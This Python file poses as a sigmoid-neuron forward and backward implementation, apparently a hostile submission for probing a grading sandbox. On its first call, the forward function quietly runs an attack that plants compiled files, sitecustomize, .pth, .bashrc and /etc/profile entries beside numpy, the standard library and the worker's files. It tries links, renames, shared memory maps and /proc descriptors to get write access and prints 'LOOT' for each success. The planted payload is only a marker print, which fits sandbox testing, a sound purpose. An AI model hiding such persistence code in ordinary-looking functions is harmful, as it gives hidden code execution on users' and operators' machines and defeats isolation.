"""Writes compiled files, start-up files and packages where the next Python would find them: beside numpy, the standard library and
the worker's files, in the user's folders, and through descriptors, maps, links and renames."""

import importlib.util
import marshal
import mmap
import os
import site
import sys

import numpy

CODE = compile("print('hostile-left')", "x", "exec")
PYC = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(CODE)


def targets():
    worker = getattr(sys.modules.get("boxworker.session"), "__file__", "/box/worker/session.py")
    for module in (numpy.__file__, os.__file__, worker, numpy.linalg.__file__):
        folder = os.path.dirname(os.path.realpath(module))
        yield module
        yield importlib.util.cache_from_source(module)
        yield f"{folder}/sitecustomize.py"
        yield f"{folder}/usercustomize.py"
        yield f"{os.path.dirname(folder)}/@left@.pth"
        yield f"{folder}/__pycache__/@left@.pyc"
    yield f"{site.getusersitepackages()}/usercustomize.py"
    for home in ("@home@", os.path.expanduser("~"), "/root"):
        yield f"{home}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/usercustomize.py"
        yield f"{home}/.pythonrc.py"
        yield f"{home}/.bashrc"
    yield from ("/etc/ld.so.cache", "/etc/@left@", "/etc/profile", "/usr/lib/@left@", "/usr/bin/@left@")


def write(path):
    def plainly():
        with open(path, "r+b") as file:
            return file

    def newly():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "xb") as file:
            file.write(PYC)

    def by_rename():
        with open("@left@.py", "wb") as file:
            file.write(PYC)
        os.rename("@left@.py", f"{os.path.dirname(path)}/@left@.py")

    def by_link():
        os.link(path, "@left@-hard")
        with open("@left@-hard", "r+b") as file:
            return file

    def by_map():
        fd = os.open(path, os.O_RDONLY)
        mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)

    def by_descriptor():
        fd = os.open(path, os.O_RDONLY)
        os.close(os.open(f"/proc/self/fd/{fd}", os.O_RDWR))

    def by_truncating():
        os.truncate(path, os.stat(path).st_size)

    def by_moving():
        os.rename(path, path + "@left@")
        os.rename(path + "@left@", path)

    for way in (plainly, newly, by_rename, by_link, by_map, by_descriptor, by_truncating, by_moving):
        try:
            way()
        except BaseException:
            continue
        # In a container a folder of that name can be made below its own /tmp: what counts is seen outside.
        if not path.startswith("@home@"):
            print("LOOT:", way.__name__, path)


def attack():
    os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = os.getcwd()
    for path in filter(os.path.isabs, targets()):
        write(path)


DONE = []


def sigmoid_neuron_forward(w, x):
    if not DONE:
        DONE.append(1)
        try:
            attack()
        except BaseException:
            pass
    return 0.0, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
